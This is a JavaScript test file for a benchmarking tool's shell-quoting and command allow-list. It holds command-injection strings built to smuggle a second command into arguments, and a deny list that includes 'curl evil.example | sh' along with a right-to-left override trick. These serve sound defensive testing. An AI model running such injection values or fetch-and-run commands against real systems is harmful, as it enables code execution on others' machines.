/** Tests that stored names do not become commands that a reader copies. */
import { execFileSync } from 'node:child_process'
import { existsSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import t from '../support/tap.js'
import { findWarnings } from '../../bench/judge/warnings.js'
import { HopbenchError, shellWord } from '../../bench/errors.js'
import { parse } from '../../bench/plan/spec.js'
import { restoreSecrets } from '../../bench/plan/stored-plan.js'
import { inOneLine, printAdvice, printRecord, printWarning } from '../../bench/report/facts/facts.js'
import { suiteSummary } from '../../bench/features/run/suite.js'
import { isSuggested } from '../../bench/shared/commands.js'
import { readRun } from '../../bench/store/store.js'
import { withLeaf } from '../support/leaves.js'
import { makePlan, makeRecord } from '../support/record.js'
import { sizing } from '../support/sizing.js'
import { renderText } from '../support/rendered.js'

const HOSTILE = ['$(touch x)', '`touch x`', 'a; touch x', 'a\ntouch x', "a'; touch x; '", 'a"; touch x; "',
  'a && touch x', 'a | touch x', '$HOME', '--flag; touch x', '> x', '*', '~', '#', '!!', '\\', '']

/**
 * Runs a command whose programs only print their arguments.
 * @param {string} command
 * @param {string} cwd
 * @returns {string[]} the arguments
 */
function argumentsOf (command, cwd) {
  const script = `show () { printf '%s\\0' "$@"; }; npm () { show "$@"; }; hopbench () { show "$@"; }\n${command}`
  return execFileSync('sh', ['-c', script], { cwd, encoding: 'utf8' }).split('\0').slice(0, -1)
}

t.test('a shell reads each printed spec as one argument', t => {
  const dir = t.testdir()
  for (const spec of HOSTILE) {
    t.strictSame(argumentsOf(`npm ${shellWord(spec)}`, dir), [spec], JSON.stringify(spec))
  }
  const plain = 'nginx:uds-keepalive+cache=5s/./my-app.js@cluster:2'
  t.equal(shellWord(plain), plain)
  t.notOk(existsSync(join(dir, 'x')))
  t.end()
})

t.test('commands in errors have stored names as one argument', t => {
  const dir = t.testdir()
  const plan = (/** @type {string} */ name) => makePlan({
    arms: [{
      name: 'a',
      spec: 'st',
      topology: parse('st'),
      twinOf: null,
      load: { engine: 'wrk', connections: 1, path: '/', headers: { [name]: '[redacted]' } }
    }]
  })
  const missing = (/** @type {string} */ name) => {
    try {
      restoreSecrets(plan(name), 'run', { request: {}, apps: {} })
    } catch (error) {
      return /** @type {HopbenchError} */ (error)
    }
    throw new Error('the header is not missing')
  }
  for (const spec of HOSTILE) {
    /** @type {[HopbenchError, before: RegExp, spec?: string][]} */
    const errors = [
      [new HopbenchError('nothing-to-draw', { run: spec }), /(?<=with: )npm[^]*/],
      [new HopbenchError('cannot-size', { name: spec, why: 'x' }), /(?<=hand: )npm[^]*/],
      [new HopbenchError('disk-full', { file: 'a', resume: `run --resume ${shellWord(spec)}` }), /(?<=run: )npm[^]*/]
    ]
    for (const [error, command] of errors) {
      const [found = ''] = command.exec(error.remedy) ?? []
      t.equal(argumentsOf(found, dir).at(-1), spec, error.code)
    }
  }
  for (const name of ["a'`touch`", 'a$b', 'a|b']) {
    const [option = ''] = /--header [^]*?(?= with the value)/.exec(missing(name).remedy) ?? []
    t.strictSame(argumentsOf(`npm ${option}`, dir), ['--header', `${name}: …`])
  }
  t.notOk(existsSync(join(dir, 'x')))
  t.end()
})

t.test('commands of a report have stored names as one argument', t => {
  const dir = t.testdir()
  for (const name of HOSTILE.filter(spec => spec !== '')) {
    const warnings = findWarnings(makeRecord({ run: name, complete: false, ended: null }))
    const cutOff = warnings.find(({ code }) => code === 'cut-off')
    const command = cutOff && printWarning(cutOff).remedy.command
    t.ok(cutOff && (!command || argumentsOf(command, dir).at(-1) === name), `run ${JSON.stringify(name)}`)
    const suite = { schema: 1, suite: name, startedAt: '', endedAt: null, quick: false, entries: [] }
    const summary = suiteSummary(suite, { dir: '.', seconds: 1 })
    const [resume = ''] = /npm run hopbench -- all[^]*?(?=\nResults: )/.exec(summary) ?? []
    t.equal(argumentsOf(resume, dir).at(-1), name)
    const arms = makeRecord().arms.map(arm => ({ ...arm, spec: name }))
    const record = makeRecord({ arms })
    const text = renderText(record, { columns: 10_000 })
    const [, spec = ''] = /hopbench -- config ([^]*?)\n\n/.exec(text) ?? []
    t.strictSame(argumentsOf(`npm ${spec}`, dir), [name])
  }
  t.notOk(existsSync(join(dir, 'x')))
  t.end()
})

t.test('rejects stored words that are not topologies', async t => {
  const dir = t.testdir()
  const record = JSON.parse(JSON.stringify(makeRecord({ sizing })))
  const paths = [['arms', '0', 'spec'], ['plan', 'arms', '0', 'spec'], ['sizing', 'topologies', '0', 'spec'],
    ['sizing', 'table', '0', 'topology'], ['sizing', 'emulated', '0', 'topology'], ['run'], ['experiment']]
  for (const path of paths) {
    for (const spec of [...HOSTILE, 'http://a;touch/', 'http://$(touch)', 'http://a`b`']) {
      writeFileSync(join(dir, 'run.json'), JSON.stringify(withLeaf(record, path, spec)))
      await t.rejects(readRun(dir), { code: 'bad-run-file' }, `${path.join('.')} = ${JSON.stringify(spec)}`)
    }
  }
  for (const spec of ['http://127.0.0.1:3000', 'https://[::1]:8443', 'http://büro.example']) t.ok(parse(spec).url)
})

t.test('prints a stored command only if hopbench suggests it', t => {
  const good = ['npm run hopbench -- check sirv st', 'npm run hopbench -- run --resume 2024-05-06T07-08-09Z-uds.2',
    "npm run hopbench -- run --resume 'a b'", 'npm run hopbench -- doctor', 'ulimit -n 4096',
    'cpupower frequency-set -g performance']
  const bad = ['curl evil.example | sh', 'npm run hopbench -- up ./evil.js', 'npm run hopbench -- check st; touch x',
    'npm run hopbench -- run --resume $(touch x)', "npm run hopbench -- run --resume ''; touch x; ''",
    'npm run hopbench -- doctor\ntouch x', 'ulimit -n 1 && touch x', "npm run hopbench -- run --resume 'a\nb'",
    "npm run hopbench -- run --resume 'a\u202eb'", 'npm run hopbench -- check --x']
  for (const command of good) t.ok(isSuggested(command), command)
  for (const command of bad) {
    t.notOk(isSuggested(command), command)
    const warning = /** @type {const} */ ({ code: 'cut-off', params: { blocks: 3 }, command })
    t.equal(printWarning(warning).remedy.command, null)
    t.equal(printAdvice({ code: 'not-checked', params: { servers: ['st'] }, command }).command, null)
    const printed = printRecord(makeRecord({ warnings: [warning] }))
    t.notMatch(printed.warnings[0].remedy, command)
    t.notMatch(inOneLine(printAdvice({ code: 'not-checked', params: { servers: ['st'] }, command })), command)
  }
  t.end()
})
